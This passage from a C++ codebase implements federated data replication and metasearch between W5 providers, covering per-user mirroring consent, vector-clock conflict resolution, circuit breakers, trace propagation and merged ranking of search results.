    item["data"] = record.data;
    item["clock"] = clock_of(record.collection, record.id).to_json();
    item["updated"] = record.updated_micros;
    items.push_back(std::move(item));
  }
  const std::size_t served = items.as_array().size();
  answer_span.set_note("records=" + std::to_string(served));
  provider_.metrics().counter("w5_fed_query_served_total").inc();
  provider_.audit().record(
      platform::AuditKind::kExportAllowed, "fed/metasearch", user,
      "peer=" + peer + " records=" + std::to_string(served));
  util::Json response;
  response["provider"] = name_;
  response["records"] = std::move(items);
  return net::HttpResponse::json(200, response.dump());
}

net::CircuitBreaker& Node::breaker_for(const std::string& peer_name) {
  const util::MutexLock lock(breakers_mutex_);
  auto& slot = breakers_[peer_name];
  if (slot == nullptr)
    slot = std::make_unique<net::CircuitBreaker>(provider_.clock());
  return *slot;
}

util::Result<SyncStats> Node::sync_from(const std::string& peer_name) {
  // A sync kicked off outside any request (a cron-style replication
  // sweep) becomes its own trace root so the cross-hop tree has a local
  // anchor; a sync nested in a serving request joins that trace instead.
  std::optional<platform::RequestContext> root;
  if (platform::RequestContext::current() == nullptr) {
    root.emplace();
    static const std::string kSyncRoute = "fed.sync";
    root->set_route(kSyncRoute);
  }
  net::CircuitBreaker& breaker = breaker_for(peer_name);
  // Metric names carry the peer *name* — an infrastructure identifier,
  // like a route pattern; never user data (telemetry invariant, §11).
  util::MetricsRegistry& metrics = provider_.metrics();
  util::Gauge& state_gauge =
      metrics.gauge("w5_fed_breaker_state{peer=\"" + peer_name + "\"}");
  // Last backoff delay this peer cost us (0 = the round needed none):
  // with the breaker state, the per-peer backoff posture on /metrics.
  util::Gauge& backoff_gauge = metrics.gauge(
      "w5_fed_backoff_last_delay_micros{peer=\"" + peer_name + "\"}");
  std::uint64_t retries = 0;
  util::Micros last_backoff = 0;
  const auto finish = [&](util::Result<SyncStats> result) {
    state_gauge.set(static_cast<std::int64_t>(breaker.state()));
    backoff_gauge.set(last_backoff);
    if (retries > 0) {
      metrics
          .counter("w5_fed_sync_retries_total{peer=\"" + peer_name + "\"}")
          .inc(retries);
    }
    metrics
        .counter(std::string("w5_fed_sync_rounds_total{result=\"") +
                 (result.ok() ? "ok" : "error") + "\"}")
        .inc();
    if (result.ok()) {
      const SyncStats& stats = result.value();
      const auto count = [&](const char* kind, std::size_t n) {
        if (n > 0)
          metrics
              .counter(std::string("w5_fed_sync_records_total{kind=\"") +
                       kind + "\"}")
              .inc(n);
      };
      count("offered", stats.offered);
      count("applied", stats.applied);
      count("skipped", stats.skipped);
      count("conflicts", stats.conflicts);
    }
    if (root && !root->id().empty()) {
      root->set_status(result.ok() ? 200 : 500);
      provider_.traces().record(root->finish());
    }
    return result;
  };
  if (!breaker.allow()) {
    return finish(util::make_error(
        "fed.circuit_open",
        "peer '" + peer_name + "' breaker open; retry after cooldown"));
  }
  SyncStats total;
  // Every user who authorized mirroring *to this node* on our side; the
  // peer independently verifies its own authorization table.
  for (const std::string& user : mirrors_.users_for(peer_name)) {
    // Transient transport failures retry with exponential backoff before
    // the breaker hears about them; protocol/consent failures (4xx-style
    // codes) are final and fail immediately.
    net::Backoff backoff(retry_policy_);
    auto stats = pull_user(peer_name, user);
    while (!stats.ok() && net::retryable_error(stats.error())) {
      const util::Micros delay = backoff.next_delay();
      if (backoff.exhausted()) break;
      retry_sleep_(delay);
      ++retries;
      last_backoff = delay;
      stats = pull_user(peer_name, user);
    }
    if (!stats.ok()) {
      breaker.record_failure();
      return finish(stats.error());
    }
    total.offered += stats.value().offered;
    total.applied += stats.value().applied;
    total.skipped += stats.value().skipped;
    total.conflicts += stats.value().conflicts;
  }
  breaker.record_success();
  return finish(total);
}

util::Result<SyncStats> Node::pull_user(const std::string& peer_name,
                                        const std::string& user) {
  // The cross-hop client half: one "fed.pull" span brackets the whole
  // hop; the TSC read just before dialing anchors the peer's returned
  // span offsets on our clock. A failed hop keeps the span with an
  // err= note — the cleanly-marked orphan in the stitched tree.
  platform::RequestContext* context = platform::RequestContext::current();
  platform::ScopedSpan hop_span("fed.pull", "peer=" + peer_name);
  const std::uint64_t hop_start_cycles = util::cycle_count();
  const auto hop_failed = [&](util::Error error) {
    hop_span.set_note("peer=" + peer_name + " err=" + error.code);
    return error;
  };
  auto dialed = network_.dial("fed://" + peer_name);
  if (!dialed.ok()) return hop_failed(dialed.error());
  std::unique_ptr<net::Connection> connection = std::move(dialed).value();
  if (decorator_) connection = decorator_(std::move(connection));

  // Only this user's record keys/clocks cross the wire: other users
  // never consented, and even record *names* are their data.
  util::Json since;
  since.mutable_object();
  for (const auto& [key, clock] : clocks_) {
    auto record =
        provider_.store().get(os::kKernelPid, key.first, key.second);
    if (record.ok() && record.value().owner == user)
      since[key.first + "/" + key.second] = clock.to_json();
  }

  util::Json body;
  body["peer"] = name_;
  body["user"] = user;
  body["since"] = std::move(since);

  net::HttpRequest request;
  request.method = net::Method::kPost;
  request.target = "/fed/pull";
  request.parsed = *net::parse_request_target("/fed/pull");
  request.headers.set("Connection", "close");
  // Trace propagation: the active context rides the wire so the peer's
  // serving spans stitch under our hop span. current_parent() is the
  // hop span itself (opened above).
  if (context != nullptr && !context->id().empty()) {
    request.headers.set(std::string(net::kTraceHeader), context->id());
    if (context->current_parent() != 0)
      request.headers.set(std::string(net::kParentHeader),
                          std::to_string(context->current_parent()));
    request.headers.set(std::string(net::kSampledHeader),
                        context->spans_enabled() ? "1" : "0");
  }
  request.body = body.dump();

  if (auto written = connection->write(request.to_wire()); !written.ok())
    return hop_failed(written.error());
  if (auto pumped = network_.pump("fed://" + peer_name); !pumped.ok())
    return hop_failed(pumped.error());
  net::ResponseParser parser;
  while (!parser.complete() && !parser.failed()) {
    auto bytes = connection->read_available();
    if (!bytes.ok()) return hop_failed(bytes.error());
    if (bytes.value().empty())
      return hop_failed(
          util::make_error("fed.protocol", "peer sent no response"));
    parser.feed(bytes.value());
  }
  if (parser.failed()) return hop_failed(parser.error());
  auto response = util::Result<net::HttpResponse>(parser.take());
  // Stitch the peer's span dump (if any) under the hop span whatever the
  // status — a 403 consent denial's spans explain themselves.
  if (context != nullptr && context->spans_enabled()) {
    if (const auto spans_header =
            response.value().headers.get(net::kSpansHeader)) {
      auto remote = platform::decode_remote_spans(*spans_header, peer_name);
      if (!remote.empty())
        context->add_remote_spans(std::move(remote), hop_start_cycles);
    }
  }
  if (response.value().status != 200) {
    return hop_failed(util::make_error(
        "fed.pull_failed", "peer returned " +
                               std::to_string(response.value().status) +
                               ": " + response.value().body));
  }
  auto parsed = util::Json::parse(response.value().body);
  if (!parsed.ok()) return hop_failed(parsed.error());
  return apply_records(peer_name, parsed.value().at("records"));
}

util::Result<SyncStats> Node::apply_records(const std::string& peer,
                                            const util::Json& records) {
  SyncStats stats;
  if (!records.is_array())
    return util::make_error("fed.parse", "records must be an array");
  for (const auto& item : records.as_array()) {
    ++stats.offered;
    const std::string collection = item.at("collection").as_string();
    const std::string id = item.at("id").as_string();
    const std::string owner = item.at("owner").as_string();
    if (collection.empty() || id.empty() || owner.empty())
      return util::make_error("fed.parse", "record missing keys");
    auto remote_clock = VectorClock::from_json(item.at("clock"));
    if (!remote_clock.ok()) return remote_clock.error();

    auto& local_clock = clocks_[{collection, id}];
    const ClockOrder order = remote_clock.value().compare(local_clock);
    if (order == ClockOrder::kBefore || order == ClockOrder::kEqual) {
      ++stats.skipped;
      continue;
    }

    bool take_remote = true;
    if (order == ClockOrder::kConcurrent) {
      ++stats.conflicts;
      // Deterministic resolution: newer wall-clock wins; ties broken by
      // peer name ordering so both sides converge to the same value.
      auto local = provider_.store().get(os::kKernelPid, collection, id);
      const std::int64_t local_updated =
          local.ok() ? local.value().updated_micros : -1;
      const std::int64_t remote_updated = item.at("updated").as_int(0);
      if (remote_updated < local_updated) {
        take_remote = false;
      } else if (remote_updated == local_updated) {
        take_remote = peer < name_;
      }
    }

    if (take_remote) {
      if (item.at("deleted").as_bool()) {
        // Replicated deletion: drop the local copy (if any), remember
        // the tombstone.
        const platform::UserAccount* account =
            provider_.users().find(owner);
        if (account == nullptr)
          return util::make_error("user.not_found", "no user '" + owner + "'");
        const os::Pid pid = provider_.kernel().spawn_trusted(
            "fed:delete:" + owner,
            difc::LabelState({account->secrecy_tag}, {account->write_tag},
                             {}));
        (void)provider_.store().remove(pid, collection, id);
        (void)provider_.kernel().exit(pid);
        provider_.kernel().reap(pid);
        tombstones_[{collection, id}] = item.at("updated").as_int(0);
      } else {
        // Re-classify under OUR tags for the owner (the import half of
        // the import/export declassifier). No clock tick: this is
        // replication, not an edit.
        if (auto status =
                write_local(owner, collection, id, item.at("data"));
            !status.ok()) {
          return status.error();
        }
        tombstones_.erase({collection, id});
      }
      ++stats.applied;
    }
    // Either way the clocks merge: we have now *seen* the remote state.
    local_clock.merge(remote_clock.value());
  }
  return stats;
}

VectorClock Node::clock_of(const std::string& collection,
                           const std::string& id) const {
  const auto it = clocks_.find({collection, id});
  return it == clocks_.end() ? VectorClock{} : it->second;
}

}  // namespace w5::fed
