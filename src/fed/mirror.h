// Import/export declassifiers for provider peering (paper §3.3).
//
// "One approach is to create import/export declassifiers that synchronize
// user data between two W5 providers. If an end-user deemed such
// applications trustworthy, it would give its privileges to data transfer
// applications on both platforms." MirrorAuthorizer is the user-consent
// table those declassifiers consult: absent an explicit (user, peer)
// authorization, no byte of that user's data crosses providers.
#pragma once

#include <map>
#include <set>
#include <string>
#include <vector>

#include "util/result.h"

namespace w5::fed {

class MirrorAuthorizer {
 public:
  // The user hands the mirror declassifier their export privilege toward
  // this peer (and implicitly their write privilege for imports from it).
  void authorize(const std::string& user, const std::string& peer);
  void revoke(const std::string& user, const std::string& peer);

  bool authorized(const std::string& user, const std::string& peer) const;

  util::Status check(const std::string& user, const std::string& peer) const;

  // All users who authorized the given peer.
  std::vector<std::string> users_for(const std::string& peer) const;

  // All peers the given user authorized — the metasearch fan-out set:
  // a query scatters exactly to the providers this user consented to
  // mirror with, nowhere else.
  std::vector<std::string> peers_for(const std::string& user) const;

 private:
  std::map<std::string, std::set<std::string>> peers_by_user_;
};

}  // namespace w5::fed
