// Merge-rank for federated metasearch partials (DESIGN.md §18).
//
// Each peered provider answers a fan-out query with its own partial
// result list; this layer folds the partials into one stream:
//
//   dedupe    same (collection, id) from several providers collapses to
//             one winner, chosen by vector-clock dominance with the
//             exact conflict rule Node::apply_records uses for writes
//             (concurrent → newer updated wins → smaller provider name),
//             so search sees the same replica the next sync would keep.
//   rank      tf-idf text relevance (rank/relevance.h) + freshness +
//             a small local-copy prior, weighted by MergeWeights.
//   facets    per-field value counts over the merged window, every count
//             pushed through the same §3.5 quantizer the local query
//             engine uses — the n vs n+1 channel stays closed across
//             the federation boundary.
//   cursor    stateless pagination over the (score desc, key asc) order;
//             each page re-executes the fan-out and resumes strictly
//             after the cursor position.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "fed/vector_clock.h"
#include "rank/search.h"
#include "util/json.h"

namespace w5::fed {

// One record as it travels through the merge: provenance + replication
// metadata + the relevance score filled in by score_and_sort().
struct MergedRecord {
  std::string provider;  // source node name
  std::string collection;
  std::string id;
  std::string owner;
  util::Json data;
  VectorClock clock;
  std::int64_t updated = 0;  // updated_micros at the source
  bool local = false;        // answered by the home provider's own store
  double score = 0.0;

  std::string key() const { return collection + "/" + id; }
};

// Signal weights for the merged ranking. The defaults reuse the rank/
// search weights (§3.2): the structural-trust share backs text
// relevance, the editor share backs freshness, and the popularity share
// backs the local-copy prior — one knob set across both search planes.
struct MergeWeights {
  double text;
  double freshness;
  double locality;

  static MergeWeights from_search(const rank::SearchWeights& weights) {
    return MergeWeights{weights.pagerank, weights.editors,
                        weights.popularity};
  }
  MergeWeights() : MergeWeights(from_search(rank::SearchWeights{})) {}
  MergeWeights(double text_weight, double freshness_weight,
               double locality_weight)
      : text(text_weight),
        freshness(freshness_weight),
        locality(locality_weight) {}
};

// Every string value in `data` (recursively) joined with spaces — the
// text a record is matched and scored on, plus its id.
std::string record_text(const std::string& id, const util::Json& data);

// AND-match: every term occurs somewhere in the record's text. An empty
// term list matches everything. Serving nodes apply this as the store
// predicate so non-matching records never cross the wire.
bool record_matches_terms(const std::string& id, const util::Json& data,
                          const std::vector<std::string>& terms);

// Collapses duplicate (collection, id) entries. `dropped` (optional)
// counts the losers. Deterministic: independent of input order.
std::vector<MergedRecord> dedupe_by_clock(std::vector<MergedRecord> records,
                                          std::size_t* dropped = nullptr);

// Fills every record's score and sorts (score desc, key asc, provider
// asc). Freshness is normalized over the window's updated range; text
// over the window's best match.
void score_and_sort(std::vector<MergedRecord>& records,
                    const std::vector<std::string>& terms,
                    const MergeWeights& weights);

// The §3.5 quantizer (LabeledStore::quantize_count, bound by the
// caller); identity when unset.
using QuantizeFn = std::function<std::size_t(std::size_t)>;

// {"field": {"value": count}} over the merged window, each count
// quantized. Only string-valued fields facet; missing fields are skipped.
util::Json facet_counts(const std::vector<MergedRecord>& records,
                        const std::vector<std::string>& fields,
                        const QuantizeFn& quantize);

// Cursor codec: "v1:<score bits as hex>:<collection/id>". The score is
// encoded exactly (IEEE bit pattern) so resume comparisons are not
// subject to decimal round-tripping.
std::string encode_cursor(double score, const std::string& key);
bool decode_cursor(const std::string& cursor, double* score,
                   std::string* key);

// One page out of the scored, sorted window: records strictly after the
// cursor position (empty cursor = from the top), at most `limit` of
// them, plus the resume token ("" on the last page).
struct MergedPage {
  std::vector<MergedRecord> records;
  std::string next_cursor;
};
util::Result<MergedPage> paginate(std::vector<MergedRecord> sorted,
                                  const std::string& cursor,
                                  std::size_t limit);

}  // namespace w5::fed
