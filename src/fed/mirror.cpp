#include "fed/mirror.h"

#include "core/trace.h"

namespace w5::fed {

void MirrorAuthorizer::authorize(const std::string& user,
                                 const std::string& peer) {
  peers_by_user_[user].insert(peer);
}

void MirrorAuthorizer::revoke(const std::string& user,
                              const std::string& peer) {
  const auto it = peers_by_user_.find(user);
  if (it == peers_by_user_.end()) return;
  it->second.erase(peer);
  if (it->second.empty()) peers_by_user_.erase(it);
}

bool MirrorAuthorizer::authorized(const std::string& user,
                                  const std::string& peer) const {
  const auto it = peers_by_user_.find(user);
  return it != peers_by_user_.end() && it->second.contains(peer);
}

util::Status MirrorAuthorizer::check(const std::string& user,
                                     const std::string& peer) const {
  // Consent is the §3.3 gate every federation pull stands behind; its
  // outcome is worth a span of its own in the stitched cross-hop tree.
  // The note carries the peer name (infrastructure identity) only.
  platform::ScopedSpan span("fed.consent", "peer=" + peer);
  if (authorized(user, peer)) return util::ok_status();
  span.set_note("peer=" + peer + " err=fed.unauthorized");
  return util::make_error("fed.unauthorized",
                          "user '" + user +
                              "' has not authorized mirroring to '" + peer +
                              "'");
}

std::vector<std::string> MirrorAuthorizer::peers_for(
    const std::string& user) const {
  const auto it = peers_by_user_.find(user);
  if (it == peers_by_user_.end()) return {};
  return {it->second.begin(), it->second.end()};
}

std::vector<std::string> MirrorAuthorizer::users_for(
    const std::string& peer) const {
  std::vector<std::string> out;
  for (const auto& [user, peers] : peers_by_user_)
    if (peers.contains(peer)) out.push_back(user);
  return out;
}

}  // namespace w5::fed
