#include "fed/metasearch.h"

#include <algorithm>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <utility>

#include "core/trace.h"
#include "net/http_parser.h"
#include "net/tracing.h"
#include "rank/relevance.h"
#include "util/clock.h"
#include "util/lock_ranks.h"

namespace w5::fed {

namespace {

// Plain (peer-less) decorator shape shared with Node.
using Decorate = std::function<std::unique_ptr<net::Connection>(
    std::unique_ptr<net::Connection>)>;

}  // namespace

// Shared between the request thread and its hop threads. The request
// thread fills the read-only launch fields (peer, span ids, start
// cycles, wire bytes) before spawning; each hop thread writes only its
// own slot's result fields, under `mutex`, exactly once, then bumps
// `completed` and signals. A hop that outlives the gather (cutoff) still
// writes safely: the shared_ptr keeps this alive and the request thread
// stopped caring after the wait returned.
struct Metasearch::Gather {
  struct Hop {
    // Launch fields (request thread, pre-spawn; read-only after).
    std::string peer;
    std::string wire;  // full serialized POST /fed/query request
    Decorate decorate;
    std::uint32_t span_id = 0;
    std::uint32_t span_parent = 0;
    std::uint64_t start_cycles = 0;
    // Result fields (hop thread, under Gather::mutex).
    bool done = false;
    bool ok = false;
    std::string error_code;
    std::string provider;  // the peer's self-reported name
    util::Json records = util::Json::array();
    std::string spans_wire;
    std::uint64_t duration_cycles = 0;
  };

  util::Mutex mutex{util::lockrank::kFedGather, "Gather::mutex"};
  std::condition_variable cv;
  std::vector<Hop> hops;
  std::size_t completed = 0;
};

// One peer hop, run on its own thread: dial, send the query, pump the
// peer's listener, read one response. Thread-safety note: concurrent
// hops are safe because each dials a DISTINCT peer — InMemoryNetwork's
// listener map is read-only after setup (dial/pump only find()), and a
// peer node's accepted-connection queue is only ever touched by the one
// hop thread pumping it.
void Metasearch::run_hop(net::InMemoryNetwork& network,
                         const std::shared_ptr<Metasearch::Gather>& gather,
                         std::size_t index) {
  Metasearch::Gather::Hop& slot = gather->hops[index];
  const auto finish = [&](bool ok, std::string code, util::Json records,
                          std::string provider, std::string spans) {
    const std::uint64_t duration = util::cycle_count() - slot.start_cycles;
    const util::MutexLock lock(gather->mutex);
    slot.done = true;
    slot.ok = ok;
    slot.error_code = std::move(code);
    slot.records = std::move(records);
    slot.provider = std::move(provider);
    slot.spans_wire = std::move(spans);
    slot.duration_cycles = duration;
    ++gather->completed;
    gather->cv.notify_all();
  };
  const auto fail = [&](std::string code, std::string spans = {}) {
    finish(false, std::move(code), util::Json::array(), {}, std::move(spans));
  };

  const std::string address = "fed://" + slot.peer;
  auto dialed = network.dial(address);
  if (!dialed.ok()) return fail(dialed.error().code);
  std::unique_ptr<net::Connection> connection = std::move(dialed).value();
  if (slot.decorate) connection = slot.decorate(std::move(connection));

  if (auto written = connection->write(slot.wire); !written.ok())
    return fail(written.error().code);
  if (auto pumped = network.pump(address); !pumped.ok())
    return fail(pumped.error().code);

  net::ResponseParser parser;
  while (!parser.complete() && !parser.failed()) {
    auto bytes = connection->read_available();
    if (!bytes.ok()) return fail(bytes.error().code);
    if (bytes.value().empty()) return fail("fed.protocol");
    parser.feed(bytes.value());
  }
  if (parser.failed()) return fail(parser.error().code);
  net::HttpResponse response = parser.take();

  std::string spans;
  if (const auto header = response.headers.get(net::kSpansHeader))
    spans = *header;

  if (response.status != 200) {
    // Surface the peer's own error code when its body carries one (the
    // consent 403 and budget 429 bodies do) — the failure report then
    // says *why* the peer refused, not just that it did.
    std::string code = "fed.query_failed";
    if (auto body = util::Json::parse(response.body); body.ok()) {
      const std::string peer_code = body.value().at("error").as_string();
      if (!peer_code.empty()) code = peer_code;
    }
    return fail(std::move(code), std::move(spans));
  }
  auto body = util::Json::parse(response.body);
  if (!body.ok()) return fail("fed.parse", std::move(spans));
  finish(true, {}, body.value().at("records"),
         body.value().at("provider").as_string(), std::move(spans));
}

Metasearch::Metasearch(Node& node, MetasearchConfig config)
    : node_(node),
      config_(config),
      fanouts_total_(
          &node.provider().metrics().counter("w5_fed_query_fanouts_total")),
      partial_total_(
          &node.provider().metrics().counter("w5_fed_query_partial_total")),
      peer_ok_total_(&node.provider().metrics().counter(
          "w5_fed_query_peer_results_total{result=\"ok\"}")),
      peer_timeout_total_(&node.provider().metrics().counter(
          "w5_fed_query_peer_results_total{result=\"timeout\"}")),
      peer_error_total_(&node.provider().metrics().counter(
          "w5_fed_query_peer_results_total{result=\"error\"}")),
      peer_skipped_total_(&node.provider().metrics().counter(
          "w5_fed_query_peer_results_total{result=\"breaker_open\"}")),
      dedup_dropped_total_(&node.provider().metrics().counter(
          "w5_fed_query_dedup_dropped_total")),
      records_merged_total_(&node.provider().metrics().counter(
          "w5_fed_query_records_merged_total")),
      fanout_latency_(&node.provider().metrics().histogram(
          "w5_fed_query_fanout_micros")) {}

Metasearch::~Metasearch() { reap_stragglers(/*join_all=*/true); }

util::Result<MetaPage> Metasearch::search(
    os::Pid pid, const std::string& user,
    const platform::FederatedQuery& query) {
  reap_stragglers(/*join_all=*/false);
  fanouts_total_->inc();
  const auto wall_start = std::chrono::steady_clock::now();
  platform::RequestContext* context = platform::RequestContext::current();

  if (query.collection.empty())
    return util::make_error("fed.bad_query", "collection required");
  const std::vector<std::string> terms = rank::tokenize(query.terms);

  // The gather budget: the configured cutoff, tightened by whatever the
  // request's own deadline has left — a client that asked for 50 ms
  // total never waits 2 s for a slow peer.
  util::Micros budget = config_.fanout_budget_micros;
  if (context != nullptr && context->deadline() != 0) {
    budget = std::min(
        budget,
        std::max<util::Micros>(platform::RequestContext::remaining_micros(),
                               0));
  }

  // The fan-out set (§3.3): exactly the peers this user consented to
  // mirror with — never a directory walk of the whole federation.
  std::vector<std::string> peers = node_.mirrors().peers_for(user);
  std::erase(peers, node_.name());

  util::Json body;
  body["peer"] = node_.name();
  body["user"] = user;
  body["collection"] = query.collection;
  body["q"] = query.terms;
  body["eq_field"] = query.eq_field;
  body["eq_value"] = query.eq_value;
  body["limit"] = static_cast<std::int64_t>(config_.per_peer_limit);
  const std::string body_text = body.dump();

  auto gather = std::make_shared<Gather>();
  std::vector<PeerOutcome> outcomes;
  std::vector<std::thread> threads;
  util::MetricsRegistry& metrics = node_.provider().metrics();
  for (const std::string& peer : peers) {
    net::CircuitBreaker& breaker = node_.breaker_for(peer);
    util::Gauge& state_gauge =
        metrics.gauge("w5_fed_breaker_state{peer=\"" + peer + "\"}");
    if (!breaker.allow()) {
      // Fail fast without burning a hop on a peer that keeps failing —
      // the page degrades to the peers that still answer.
      state_gauge.set(static_cast<std::int64_t>(breaker.state()));
      peer_skipped_total_->inc();
      outcomes.push_back({peer, "breaker_open", "fed.circuit_open", 0});
      continue;
    }
    Gather::Hop hop;
    hop.peer = peer;
    if (context != nullptr) {
      hop.span_parent = context->current_parent();
      hop.span_id = context->open_span();
    }
    net::HttpRequest request;
    request.method = net::Method::kPost;
    request.target = "/fed/query";
    request.parsed = *net::parse_request_target("/fed/query");
    request.headers.set("Connection", "close");
    if (context != nullptr && !context->id().empty()) {
      request.headers.set(std::string(net::kTraceHeader), context->id());
      if (hop.span_id != 0)
        request.headers.set(std::string(net::kParentHeader),
                            std::to_string(hop.span_id));
      request.headers.set(std::string(net::kSampledHeader),
                          context->spans_enabled() ? "1" : "0");
    }
    request.body = body_text;
    hop.wire = request.to_wire();
    if (decorator_) {
      // Per-peer wrapping for the chaos harness; copied by value so a
      // straggler outliving a set_connection_decorator keeps its own.
      PeerDecorator wrap = decorator_;
      std::string name = peer;
      hop.decorate = [wrap, name](std::unique_ptr<net::Connection> c) {
        return wrap(name, std::move(c));
      };
    } else if (node_.connection_decorator()) {
      hop.decorate = node_.connection_decorator();
    }
    hop.start_cycles = util::cycle_count();
    gather->hops.push_back(std::move(hop));
  }
  const std::size_t launched = gather->hops.size();
  threads.reserve(launched);
  // Captured as a pointer: a straggler thread outlives this frame, and
  // the network (owned by the test/bench harness) outlives the node.
  net::InMemoryNetwork* network = &node_.network();
  for (std::size_t i = 0; i < launched; ++i)
    threads.emplace_back([network, gather, i] { run_hop(*network, gather, i); });

  // The local leg runs on the request thread while the hops are in
  // flight. Under an app pid the read rule contaminates the caller as
  // usual; the gateway queries as the kernel and export-checks the
  // returned label union instead.
  std::vector<MergedRecord> all;
  difc::Label secrecy;
  util::Error local_error{"", ""};
  {
    store::QueryOptions options;
    options.owner = user;
    options.eq_field = query.eq_field;
    options.eq_value = query.eq_value;
    options.limit = config_.per_peer_limit;
    options.principal = query.principal;
    if (!terms.empty()) {
      options.predicate = [&terms](const store::Record& record) {
        return record_matches_terms(record.id, record.data, terms);
      };
    }
    platform::ScopedSpan local_span("fed.local");
    auto local =
        node_.provider().store().query(pid, query.collection, options);
    if (!local.ok()) {
      local_error = local.error();
      local_span.set_note("err=" + local_error.code);
    } else {
      local_span.set_note("records=" +
                          std::to_string(local.value().size()));
      for (store::Record& record : local.value()) {
        MergedRecord merged;
        merged.provider = node_.name();
        merged.collection = record.collection;
        merged.id = record.id;
        merged.owner = record.owner;
        merged.data = std::move(record.data);
        merged.clock = node_.clock_of(record.collection, record.id);
        merged.updated = record.updated_micros;
        merged.local = true;
        secrecy = secrecy.union_with(record.labels.secrecy);
        all.push_back(std::move(merged));
      }
    }
  }

  if (!local_error.code.empty()) {
    // The caller's own leg was refused (query budget, flow) — the page
    // is dead whatever the peers say. Abandon the hops without waiting;
    // their threads finish against the shared gather and get reaped.
    const util::MutexLock lock(stragglers_mutex_);
    for (std::size_t i = 0; i < threads.size(); ++i)
      stragglers_.push_back({std::move(threads[i]), gather, i});
    return local_error;
  }

  // The slowest-peer cutoff: wait for everyone, but never past the
  // budget. Whatever is still in flight afterwards is reported, not
  // awaited — partial results beat a page held hostage by one peer.
  {
    util::UniqueLock lock(gather->mutex);
    gather->cv.wait_for(lock.native(), std::chrono::microseconds(budget), [&] {
      return gather->completed == launched;
    });
  }

  for (std::size_t i = 0; i < launched; ++i) {
    // Result fields are copied out under the gather lock; the launch
    // fields (peer, span ids, start cycles) are read-only post-spawn and
    // stay valid even for a hop still running.
    bool done = false;
    bool hop_ok = false;
    std::string error_code;
    std::string reported_provider;
    std::string spans_wire;
    util::Json records = util::Json::array();
    std::uint64_t duration_cycles = 0;
    {
      const util::MutexLock lock(gather->mutex);
      Gather::Hop& hop = gather->hops[i];
      done = hop.done;
      if (done) {
        hop_ok = hop.ok;
        error_code = std::move(hop.error_code);
        reported_provider = std::move(hop.provider);
        spans_wire = std::move(hop.spans_wire);
        records = std::move(hop.records);
        duration_cycles = hop.duration_cycles;
      }
    }
    const Gather::Hop& launch = gather->hops[i];
    net::CircuitBreaker& breaker = node_.breaker_for(launch.peer);
    PeerOutcome outcome;
    outcome.peer = launch.peer;
    std::uint64_t span_duration = duration_cycles;
    if (!done) {
      // Past the cutoff and still in flight: count it against the
      // breaker — a peer that keeps blowing the budget should open it.
      breaker.record_failure();
      peer_timeout_total_->inc();
      outcome.status = "timeout";
      span_duration = util::cycle_count() - launch.start_cycles;
    } else {
      threads[i].join();
      if (hop_ok) {
        breaker.record_success();
        peer_ok_total_->inc();
        outcome.status = "ok";
        for (const util::Json& item : records.as_array()) {
          MergedRecord merged;
          merged.provider = reported_provider.empty() ? launch.peer
                                                      : reported_provider;
          merged.collection = item.at("collection").as_string();
          merged.id = item.at("id").as_string();
          merged.owner = item.at("owner").as_string();
          merged.data = item.at("data");
          if (auto clock = VectorClock::from_json(item.at("clock"));
              clock.ok()) {
            merged.clock = std::move(clock).value();
          }
          merged.updated = item.at("updated").as_int(0);
          merged.local = false;
          if (merged.collection.empty() || merged.id.empty()) continue;
          ++outcome.records;
          all.push_back(std::move(merged));
        }
      } else {
        breaker.record_failure();
        peer_error_total_->inc();
        outcome.status = "error";
        outcome.error_code = error_code;
      }
    }
    metrics.gauge("w5_fed_breaker_state{peer=\"" + launch.peer + "\"}")
        .set(static_cast<std::int64_t>(breaker.state()));
    if (context != nullptr && context->spans_enabled()) {
      // The hop span the peer's serving spans hang under; emitted here
      // (not on the hop thread — RequestContext is single-threaded).
      context->add_span("fed.query", launch.start_cycles, span_duration,
                        "peer=" + launch.peer + " status=" + outcome.status,
                        launch.span_id, launch.span_parent);
      if (done && !spans_wire.empty()) {
        auto remote = platform::decode_remote_spans(spans_wire, launch.peer);
        if (!remote.empty()) {
          const std::uint32_t saved = context->current_parent();
          context->set_current_parent(launch.span_id);
          context->add_remote_spans(std::move(remote), launch.start_cycles);
          context->set_current_parent(saved);
        }
      }
    }
    outcomes.push_back(std::move(outcome));
  }
  {
    const util::MutexLock lock(stragglers_mutex_);
    for (std::size_t i = 0; i < threads.size(); ++i)
      if (threads[i].joinable())
        stragglers_.push_back({std::move(threads[i]), gather, i});
  }

  // ---- Merge-rank (fed/merge.h) -------------------------------------------
  std::size_t dropped = 0;
  std::vector<MergedRecord> merged = dedupe_by_clock(std::move(all), &dropped);
  if (dropped > 0) dedup_dropped_total_->inc(dropped);
  records_merged_total_->inc(merged.size());
  score_and_sort(merged, terms, config_.weights);

  MetaPage page;
  // Facets run over the whole merged window (not just this page), every
  // count through the store's own §3.5 quantizer — satellite rule: one
  // quantization path on both sides of the federation boundary.
  const store::LabeledStore& store = node_.provider().store();
  page.facets = facet_counts(merged, query.facets, [&store](std::size_t n) {
    return store.quantize_count(n);
  });
  auto paged =
      paginate(std::move(merged), query.cursor,
               std::max<std::size_t>(std::size_t{1}, query.limit));
  if (!paged.ok()) return paged.error();
  page.records = std::move(paged.value().records);
  page.next_cursor = std::move(paged.value().next_cursor);
  page.peers = std::move(outcomes);
  page.local_secrecy = std::move(secrecy);
  for (const PeerOutcome& outcome : page.peers)
    if (outcome.status != "ok") page.partial = true;
  if (page.partial) partial_total_->inc();

  const auto elapsed = std::chrono::duration_cast<std::chrono::microseconds>(
      std::chrono::steady_clock::now() - wall_start);
  fanout_latency_->observe(elapsed.count());
  return page;
}

util::Json Metasearch::render_body(const MetaPage& page) {
  util::Json items = util::Json::array();
  for (const MergedRecord& record : page.records) {
    util::Json item;
    item["provider"] = record.provider;
    item["collection"] = record.collection;
    item["id"] = record.id;
    item["owner"] = record.owner;
    item["data"] = record.data;
    item["updated"] = record.updated;
    item["local"] = record.local;
    item["score"] = record.score;
    items.push_back(std::move(item));
  }
  util::Json peers = util::Json::array();
  for (const PeerOutcome& outcome : page.peers) {
    util::Json entry;
    entry["peer"] = outcome.peer;
    entry["status"] = outcome.status;
    if (!outcome.error_code.empty()) entry["error"] = outcome.error_code;
    entry["records"] = static_cast<std::int64_t>(outcome.records);
    peers.push_back(std::move(entry));
  }
  util::Json out;
  out["items"] = std::move(items);
  out["facets"] = page.facets;
  out["peers"] = std::move(peers);
  out["partial"] = page.partial;
  out["next_cursor"] = page.next_cursor;
  return out;
}

void Metasearch::install() {
